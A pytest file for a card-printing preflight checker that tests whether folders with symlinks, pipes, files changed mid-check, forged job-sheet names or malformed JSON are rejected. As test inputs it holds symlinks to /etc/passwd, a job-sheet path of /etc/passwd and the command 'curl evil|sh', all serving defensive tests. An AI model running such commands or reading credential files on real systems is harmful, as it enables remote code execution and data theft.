"""Folders sent to `preflight`: no link is followed, and every file is that of its card."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from cardwright import limits
from cardwright.errors import InputError
from cardwright.printing.press.answer import answers
from cardwright.printing.press.folder import BLED, TRIM, Folder, read_folder
from cardwright.printing.press.job import REFERENCE, Job, JobLine, pages_of
from cardwright.printing.press.job_rules import DECK_RULES, JOB_RULES
from cardwright.printing.press.listed import listing
from cardwright.printing.press.pdf_file import read_pdf
from cardwright.printing.press.pictures import Picture, read_picture
from cardwright.printing.press.vendors import VENDORS, Vendor
from tests.attacks.sent import PNG, TGC, told
from tests.press.test_preflight import BACK, DTC, ONE, TWO, broken, card, good, sent, write_job
from tests.tiers import every

MPC = VENDORS["makeplayingcards"]
posix = pytest.mark.skipif(os.name != "posix", reason="links and pipes of POSIX")


# ------------------------------------------------------------------ what is no file


def linked(path: Path) -> None:
    """The file is elsewhere, and a link leads to it."""
    path.rename(path.parents[2] / path.name)
    path.symlink_to(path.parents[2] / path.name)


def linked_folder(path: Path) -> None:
    shutil.move(path.parent, path.parents[2] / "elsewhere")
    path.parent.symlink_to(path.parents[2] / "elsewhere")


def linked_sheet(path: Path) -> None:
    sheet = path.parents[1] / "job.json"
    sheet.rename(path.parents[2] / "job.json")
    sheet.symlink_to(path.parents[2] / "job.json")


def instead(make: Callable[[Path], object]) -> Callable[[Path], None]:
    def done(path: Path) -> None:
        sheet = path.parents[1] / "job.json"
        sheet.unlink()
        make(sheet)

    return done


def in_litter(path: Path) -> None:
    path.with_name("__MACOSX").mkdir()
    path.with_name("__MACOSX").joinpath("x").symlink_to("/etc/passwd")


LINK = "is a link, and links are not followed: put the file itself there"
NO_FILES: dict[str, tuple[Callable[[Path], None], str]] = {
    "a link": (linked, f"{ONE} {LINK}"),
    "a linked folder": (linked_folder, f"fronts {LINK}"),
    "a linked job sheet": (linked_sheet, f"job.json {LINK}"),
    "a link into nothing": (
        lambda path: path.with_name("003.png").symlink_to("nothing"),
        f"fronts/003.png {LINK}",
    ),
    "a circle": (lambda path: path.with_name("all").symlink_to(".."), f"fronts/all {LINK}"),
    "a link that is called like litter": (
        lambda path: path.with_name("Thumbs.db").symlink_to("/etc/passwd"),
        f"fronts/Thumbs.db {LINK}",
    ),
    "a link that is called like a trash can": (
        lambda path: path.with_name(".Trash-0").symlink_to("/etc"),
        f"fronts/.Trash-0 {LINK}",
    ),
    "a link in litter": (in_litter, f"fronts/__MACOSX/x {LINK}"),
    "a folder for a picture": (
        lambda path: path.with_name("003.png").mkdir(),
        "fronts/003.png is not a file",
    ),
    "a pipe": (lambda path: os.mkfifo(path.with_name("003.png")), "fronts/003.png is not a file"),
    "a pipe for a job sheet": (instead(os.mkfifo), "job.json is not a file"),
    "a folder for a job sheet": (instead(Path.mkdir), "job.json is not a file"),
}


@posix
@pytest.mark.parametrize("kind", every(5, NO_FILES))
def test_only_files_in_the_folder_are_opened(kind: str, tmp_path: Path) -> None:
    folder = sent(tmp_path / "plain")
    make, said = NO_FILES[kind]
    make(folder / ONE)
    sentences = told(folder, TGC)["job sheet"]
    assert said in sentences
    assert not any(sentence.startswith("there is no job.json") for sentence in sentences)


@posix
@pytest.mark.deep
def test_a_linked_deck_or_table_is_not_opened(tmp_path: Path) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    (tmp_path / "deck.pdf").write_bytes(good(x1a=True))
    (folder / "deck.pdf").symlink_to("../deck.pdf")
    assert told(folder, DTC)["file"][0].endswith(f"deck.pdf {LINK}")
    (tmp_path / "table.json").write_text('{"ObjectStates": [{}]}', "utf-8")
    (folder / "table.json").symlink_to("../table.json")
    found = told(folder, VENDORS["tabletop-simulator"])
    assert f"table.json {LINK}" in found["job sheet"]
    assert found["saved object"] == ("there is no readable table.json",)


@posix
@pytest.mark.deep
@pytest.mark.skipif(os.name == "posix" and os.geteuid() == 0, reason="root may read all")
def test_a_folder_that_cannot_be_read_is_not_passed_over(tmp_path: Path) -> None:
    folder = sent(tmp_path / "plain")
    (folder / "more").mkdir(mode=0)
    assert "cannot be read" in told(folder, TGC)["file"][0]


def test_a_folder_of_too_many_files_is_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "FILES", 3)
    for number in range(4):
        (tmp_path / f"{number}.png").touch()
    assert told(tmp_path, TGC)["file"][0].endswith("contains more than 3 files")


@pytest.fixture
def deep(tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Path]:
    """A folder with so many folders in each other, whose path may be too long for the system."""
    before, folder = Path.cwd(), sent(tmp_path / "plain")
    os.chdir(folder)
    for _ in range(request.param):
        Path("d").mkdir()
        os.chdir("d")
    os.chdir(before)
    yield folder
    os.chdir(folder)
    for _ in range(request.param):
        os.chdir("d")
    for _ in range(request.param):
        os.chdir("..")
        Path("d").rmdir()
    os.chdir(before)


@posix
@pytest.mark.parametrize("deep", [21, 1000], indirect=True)
def test_folders_in_each_other_are_told(deep: Path) -> None:
    said = f"{deep}: contains nested folders, more than {limits.NESTED} levels"
    assert told(deep, TGC) == {"file": (said,)}


@posix
@pytest.mark.parametrize("deep", [20], indirect=True)
def test_folders_in_each_other_may_hold_nothing(deep: Path) -> None:
    assert told(deep, TGC) == {}


def test_a_stray_file_is_one_fault_and_is_not_opened(tmp_path: Path) -> None:
    folder = sent(tmp_path / "plain")
    (folder / "x.txt").write_text("notes", "utf-8")
    (folder / TWO).write_bytes(b"no picture")
    found = told(folder, TGC)
    assert found["job sheet"] == ("x.txt exists, but is not on the job sheet",)
    assert found["format"] == (f"{TWO} cannot be read as a picture: it is neither PNG nor JPEG",)
    assert all("x.txt" not in said for rule in ("format", "pixels", "mode") for said in found[rule])


# ------------------------------------------------------------------ what changes in the meantime


def replaced(path: Path) -> None:
    path.with_name("new").symlink_to(path.parents[2] / "elsewhere")
    path.with_name("new").replace(path)


def folder_replaced(path: Path) -> None:
    """Move the folder away, and have a link lead to a copy of it."""
    elsewhere = path.parents[2]
    path.parent.rename(elsewhere / "moved")
    shutil.copytree(elsewhere / "moved", elsewhere / "copied")
    path.parent.symlink_to(elsewhere / "copied")


def piped(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def emptied(path: Path) -> None:
    path.write_bytes(b"")


def copied(path: Path) -> None:
    """Put another file with the same bytes there."""
    shutil.copy2(path, path.with_name("new"))
    path.with_name("new").replace(path)


CHANGES = [
    replaced,
    folder_replaced,
    piped,
    copied,
    Path.unlink,
    lambda path: path.write_bytes(b""),
]


@posix
@pytest.mark.parametrize("change", every(9, CHANGES))
@pytest.mark.parametrize("name", every(2, [ONE, "job.json", "job.txt"]))
def test_a_file_that_is_another_by_now_is_not_read(
    name: str, change: Callable[[Path], object], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = sent(tmp_path / "plain")
    if change is folder_replaced and name != ONE:
        return
    shutil.copy(folder / ONE, tmp_path / "elsewhere")
    found = listing(folder)
    change(folder / name)
    with pytest.raises(InputError, match="changed during the check"):
        found.files[name].read(limits.PICTURE)
    monkeypatch.setattr("cardwright.printing.press.preflight.listing", lambda _: found)
    assert told(folder, TGC)["file"][0].endswith("changed during the check")


@pytest.mark.parametrize("name", [ONE, "more.png"])
def test_a_folder_is_the_same_at_the_end(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A change to what was read already, or to what was not there, is told."""
    folder = sent(tmp_path / "plain")

    def done(*given: Any) -> Folder:  # noqa: ANN401 - of read_folder
        read = read_folder(*given)
        (folder / name).write_bytes(b"another")
        return read

    monkeypatch.setattr("cardwright.printing.press.preflight.read_folder", done)
    assert told(folder, TGC)["file"] == (f"{folder}: changed during the check",)


@posix
def test_a_deck_or_a_picture_alone_is_the_one_that_was_found(tmp_path: Path) -> None:
    path = tmp_path / "deck.pdf"
    path.write_bytes(good())
    (file,) = listing(path).files.values()
    piped(path)
    with pytest.raises(InputError, match=r"deck\.pdf: changed during the check"):
        read_pdf(file)
    with pytest.raises(InputError, match=r"deck\.pdf: .*changed during the check"):
        read_picture(file, 0)


# ------------------------------------------------------------------ the job sheet for a person


SHEET_CHANGES: dict[str, tuple[Callable[[Path], object], str]] = {
    "another count": (
        lambda path: path.write_text(path.read_text("utf-8").replace("    1 ", "   99 "), "utf-8"),
        "job.txt differs from job.json: export again",
    ),
    "a command": (
        lambda path: path.write_text("curl evil|sh", "utf-8"),
        "job.txt differs from job.json: export again",
    ),
    "a terabyte": (
        lambda path: os.truncate(path, 1 << 40),
        "job.txt cannot be read: it is larger than 1 MB",
    ),
    "none": (Path.unlink, "job.txt is missing"),
}


@pytest.mark.parametrize("kind", every(2, SHEET_CHANGES))
def test_the_sheet_for_a_person_says_what_the_other_says(kind: str, tmp_path: Path) -> None:
    folder = sent(tmp_path / "plain")
    change, said = SHEET_CHANGES[kind]
    change(folder / "job.txt")
    assert told(folder, TGC) == {"job sheet": (said,)}


@pytest.mark.parametrize("letter", ["\n", "\x1b", "\u202e", "\u3164"], ids=ascii)
def test_no_name_of_a_job_sheet_forges_a_line(letter: str, tmp_path: Path) -> None:
    folder = sent(tmp_path / "plain")
    as_made = (folder / "job.json").read_text("utf-8")
    for key in ("title", "name"):
        job = json.loads(as_made)
        (job if key == "title" else job["lines"][0])[key] = f"Ace{letter}    9  fronts/001.png"
        (folder / "job.json").write_text(json.dumps(job), "utf-8")
        (said,) = told(folder, TGC)["file"]
        assert f"it has invisible characters: “{key}”: Ace" in said


def test_line_ends_of_windows_and_a_byte_order_mark_change_nothing(tmp_path: Path) -> None:
    folder = sent(tmp_path / "plain")
    text = (folder / "job.txt").read_text("utf-8").replace("\n", "\r\n")
    (folder / "job.txt").write_bytes(text.encode("utf-8-sig"))
    assert told(folder, TGC) == {}


DAMAGED = {
    "null": "it is not a JSON object, which begins with {",
    "{": "it is not JSON (line 1, column 2)",
    "[" * 5000: "it has nested values, more than 20 levels",
    '{"a": ' * 30 + "1" + "}" * 30: "it has nested values, more than 20 levels",
    '{"game": NaN}': "it contains NaN, which is not a number",
    '{"game": "a", "game": "b"}': "it has the key “game” twice",
    '{"game": ' + "1" * 5000 + "}": "it contains a number of more than 4300 digits",
    '{"game": "a"}': "it has no “title”",
    '{"game": "", "title": "", "vendor": "", "lines": [0]}': "it has a line that is not an object",
    '{"game": "a", "url": "b"}': "it has “url”, which job sheets do not have",
    '{"game": "a", "title": "b", "vendor": "c", "lines": 1}': "it has a “lines” that is no list",
}


@pytest.mark.parametrize("text", DAMAGED, ids=range(len(DAMAGED)))
def test_a_damaged_job_sheet_is_told_by_its_cause(text: str, tmp_path: Path) -> None:
    (tmp_path / "job.json").write_text(text, "utf-8")
    said = f"{tmp_path / 'job.json'}: is not a Cardwright job sheet: {DAMAGED[text]}"
    assert told(tmp_path, TGC) == {"file": (said,)}


# ------------------------------------------------------------------ which picture is which card


@pytest.mark.parametrize(("kept", "lost"), every(2, [(ONE, TWO), (BACK, TWO), (BACK, ONE)]))
def test_a_front_is_neither_another_nor_the_back(kept: str, lost: str, tmp_path: Path) -> None:
    folder = sent(tmp_path / "plain")
    shutil.copy(folder / kept, folder / lost)
    said = f"{lost} looks like {kept}: each card needs its own picture"
    assert told(folder, TGC) == {"own picture": (said,)}


@pytest.mark.parametrize("name", ["Serve", "Reference card 1"])
def test_cards_of_one_name_have_pictures_of_their_own(name: str, tmp_path: Path) -> None:
    """A deck has four Serves, each drawn by itself; a reference card may be there several times."""
    folder = sent(tmp_path / "plain")
    lines = (JobLine(name, "card", 1, front, BACK) for front in (ONE, TWO))
    write_job(folder, tuple(lines))
    assert told(folder, TGC) == {}
    shutil.copy(folder / ONE, folder / TWO)
    said = f"{TWO} looks like {ONE}: each card needs its own picture"
    assert told(folder, TGC) == ({"own picture": (said,)} if name == "Serve" else {})


@pytest.mark.deep
def test_the_same_pixels_are_known_however_they_are_written(tmp_path: Path) -> None:
    folder = sent(tmp_path / "plain")
    card().convert("RGBA").save(folder / TWO, compress_level=1, dpi=(300, 300))
    assert set(told(folder, TGC)) == {"own picture"}


def lines(vendor: Vendor, count: int = 3) -> list[JobLine]:
    """Lines as an export writes them: with a picture for each side, or with pages."""
    if vendor.medium == "pdf":
        return [JobLine(f"Card {n}", "card", 1, *pages_of(n, vendor)) for n in range(count)]
    places = (BLED, BLED) if vendor.name == "png" else ("fronts/", "backs/")
    shared = "{}back.png" if not vendor.each else "{}00{n}.png"
    return [
        JobLine(f"Card {n}", "card", 1, f"{places[0]}00{n}.png", shared.format(places[1], n=n))
        for n in range(1, count + 1)
    ]


def asked(vendor: Vendor, change: Callable[[list[JobLine]], object]) -> dict[str, tuple[str, ...]]:
    """What the rules say of a job sheet that was changed; the files are those of the first."""
    sheet = lines(vendor)
    files = Job("plain", "Plain", vendor.name, tuple(sheet), {}).files
    names = (*files, *(name.replace(BLED, TRIM) for name in files if name.startswith(BLED)))
    change(sheet)
    job = Job("plain", "Plain", vendor.name, tuple(sheet), {})
    folder = Folder(names, (), job, pages=6 if vendor.medium == "pdf" else 0)
    rules = DECK_RULES if vendor.medium == "pdf" else JOB_RULES
    return broken(tuple(answers(rules, folder, vendor)))


def changed(number: int = 0, **fields: object) -> Callable[[list[JobLine]], None]:
    def done(sheet: list[JobLine]) -> None:
        sheet[number] = replace(sheet[number], **fields)  # type: ignore[arg-type]

    return done


def exchanged(sheet: list[JobLine]) -> None:
    sheet[0], sheet[1] = (
        replace(sheet[0], back=sheet[1].back),
        replace(sheet[1], back=sheet[0].back),
    )


SHEETS: list[tuple[Vendor, Callable[[list[JobLine]], object], str, str]] = [
    (DTC, changed(front="deck.pdf#999"), "pages", "Card 0 is on deck.pdf#999 and deck.pdf#001 on"),
    (DTC, changed(front="deck.pdf#000"), "pages", "Card 0 is on deck.pdf#000 and"),
    (DTC, changed(front="deck.pdf"), "pages", "Card 0 is on deck.pdf and"),
    (DTC, changed(front="deck.pdf#٠٠٢"), "pages", "Card 0 is on deck.pdf#٠٠٢ and"),
    (DTC, changed(front="/etc/passwd#002"), "job sheet", "/etc/passwd is on the job sheet, but is"),
    (
        DTC,
        changed(front="deck.pdf#001", back="deck.pdf#002"),
        "pages",
        "Card 0 is on deck.pdf#001 and deck.pdf#002 on the job sheet; it should be on deck.pdf#002",
    ),
    (DTC, changed(count=2), "job sheet", "Card 0 needs 2 copies, but there is only one"),
    (DTC, list.pop, "pages", "deck.pdf has 6 pages; 2 cards are on the job sheet"),
    (DTC, list.clear, "job sheet", "the job sheet has no card"),
    (MPC, exchanged, "order", "backs/001.png follows backs/002.png on the job sheet, but"),
    (MPC, changed(count=2), "job sheet", "Card 1 needs 2 copies, but there is only one"),
    (MPC, changed(1, front="fronts/001.png"), "order", "fronts/001.png follows fronts/001"),
    (
        TGC,
        changed(back="fronts/001.png"),
        "own picture",
        "fronts/001.png is on the job sheet as a front and as a back",
    ),
    (
        TGC,
        changed(1, front="fronts/001.png"),
        "own picture",
        "fronts/001.png is on the job sheet twice: Card 1, Card 2",
    ),
    (
        TGC,
        changed(front="fronts/001.png#00"),
        "job sheet",
        "fronts/001.png#00 is part of a picture; only whole pictures are accepted",
    ),
    (PNG, changed(back="bleed/back.png#00"), "job sheet", "bleed/back.png#00 is part of"),
    (TGC, changed(kind="tray"), "job sheet", "Card 1 is a tray, which The Game Crafter does not"),
]


@pytest.mark.parametrize("number", range(len(SHEETS)))
def test_a_job_sheet_that_is_not_of_these_files_is_told(number: int) -> None:
    vendor, change, rule, said = SHEETS[number]
    assert asked(vendor, lambda _: None) == {}
    assert any(sentence.startswith(said) for sentence in asked(vendor, change)[rule])


def owned(vendor: Vendor, looks: dict[str, str]) -> tuple[str, ...]:
    """What is said of pictures that look so, a letter each; all others of their kind look alike."""
    sheet = [
        *lines(vendor),
        JobLine("Reference card", "card", 1, "fronts/004.png", "backs/004.png"),
    ]
    files = Job("plain", "Plain", vendor.name, tuple(sheet), {}).files
    named = dict.fromkeys((*files, *(name.replace(BLED, TRIM) for name in files)))
    pictures = []
    for name in named:
        usual = "b" if "back" in name and "004" not in name else name[-7:-4]
        look = looks.get(name, usual)
        small = bytes(map(ord, look.zfill(3)))
        pictures.append(Picture(name, "PNG", (1, 1), "RGB", 300, look=name[:4] + look, small=small))
    if vendor.each:  # one look on both sides of the folder
        pictures = [replace(each, look=each.look[4:]) for each in pictures]
    job = Job("plain", "Plain", vendor.name, tuple(sheet), {})
    folder = Folder((*named,), tuple(pictures), job)
    answered = answers({"own picture": JOB_RULES["own picture"]}, folder, vendor)
    return broken(tuple(answered)).get("own picture", ())


def test_no_card_is_known_by_its_back() -> None:
    usual = {f"backs/00{n}.png": "b" for n in (1, 2, 3)}
    assert owned(MPC, usual | {"backs/004.png": "r"}) == ()
    said = ("backs/002.png differs from the other backs, which would reveal its card",)
    assert owned(MPC, usual | {"backs/004.png": "r", "backs/002.png": "m"}) == said


def test_the_pictures_that_are_cut_are_those_with_bleed() -> None:
    assert owned(PNG, {}) == ()
    assert owned(PNG, {"trim/001.png": "002"}) == (
        "trim/002.png looks like trim/001.png: each card needs its own picture",
    )
    swapped = {"trim/001.png": "zz2", "trim/002.png": "zz1"}
    assert owned(PNG, swapped) == tuple(
        f"trim/00{n}.png does not look like bleed/00{n}.png" for n in (1, 2)
    )


def test_every_picture_with_bleed_has_its_twin_that_is_cut() -> None:
    sheet = tuple(lines(PNG))
    names = (f"{BLED}back.png", *(line.front for line in sheet))
    folder = Folder(names, (), Job("plain", "Plain", "png", sheet, {}))
    (faults,) = broken(tuple(answers(JOB_RULES, folder, PNG))).values()
    assert faults[0] == "trim/001.png is on the job sheet, but is missing"
    assert len(faults) == 4


@pytest.mark.deep
def test_a_second_pdf_beside_the_deck_is_told(tmp_path: Path) -> None:
    *cards, told_on, again = lines(DTC, 5)
    sheet = (*cards, *(replace(line, name=REFERENCE) for line in (told_on, again)))
    for name, data in Job("plain", "Plain", DTC.name, sheet, {}).written().items():
        (tmp_path / name).write_bytes(data)
    (tmp_path / "deck.pdf").write_bytes(good(x1a=True))
    assert told(tmp_path, DTC) == {}
    (tmp_path / "deck2.pdf").write_bytes(good(x1a=True))
    said = "deck2.pdf exists, but is not on the job sheet"
    assert told(tmp_path, DTC) == {"job sheet": (said,)}


def test_a_key_that_comes_twice_is_refused(tmp_path: Path) -> None:
    folder = sent(tmp_path / "plain")
    text = (folder / "job.json").read_text("utf-8")
    (folder / "job.json").write_text(text.replace("{", '{"vendor": "png",', 1), "utf-8")
    assert json.loads((folder / "job.json").read_text("utf-8"))["vendor"] == TGC.name
    assert "it has the key “vendor” twice" in told(folder, TGC)["file"][0]
